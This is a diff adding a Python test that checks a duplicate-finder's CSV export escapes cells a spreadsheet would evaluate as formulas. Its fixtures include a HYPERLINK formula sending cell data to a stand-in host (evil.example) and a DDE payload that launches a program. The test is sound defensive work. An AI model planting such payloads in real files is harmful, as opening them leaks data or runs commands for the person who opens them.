@@ -205,6 +205,28 @@ def test_the_report_files(store: SqliteRecordStore, tmp_path: Path, records: lis
     assert "default-src 'none'" in page  # nothing runs when it is opened from disk
 
 
+def test_the_csv_keeps_a_spreadsheet_from_evaluating_a_cell(store: SqliteRecordStore, tmp_path: Path,
+                                                            records: list[HashRecord]) -> None:  # fmt: skip
+    """Ids and SKUs come from whoever filled the catalog: a cell a spreadsheet would evaluate as a
+    formula is written as text (a leading '), in the CSV only."""
+    original = next(r for r in records if r.entity_id == "a-original")
+    hostile = {'=HYPERLINK("http://evil.example/?"&A1,"open")': "@SUM(1+1)*cmd|' /C calc'!A0",
+               "+1+1": "-2+3", "@x": "\t=1+1", "-x": "\r=1"}  # fmt: skip
+    for i, (entity_id, sku) in enumerate(hostile.items()):
+        store.put(dataclasses.replace(original, entity_id=entity_id, sku=sku, image_url=f"=IMAGE({i})",
+                                      updated_at=f"2026-04-0{i + 1}T00:00:00.000Z"))  # fmt: skip
+    out = tmp_path / "out"
+    find_duplicates(store, out, source="test")
+    with (out / "duplicates.csv").open(newline="") as fh:
+        rows = {r["entity_id"]: r for r in csv.DictReader(fh)}
+    for entity_id, sku in hostile.items():
+        row = rows["'" + entity_id]
+        assert (row["sku"], row["image_url"][:2]) == ("'" + sku, "'=")
+    assert rows["a-original"]["sku"] == "SKU-A-ORIGINAL"  # ordinary cells as they are
+    group = json.loads((out / "duplicates.json").read_text())["groups"][0]["items"]
+    assert set(hostile) <= set(group)  # the JSON keeps them as they are
+
+
 def test_a_picture_held_by_more_records_than_a_candidate_pool_is_one_group_kept_by_the_oldest(
     tmp_path: Path, records: list[HashRecord]
 ) -> None:
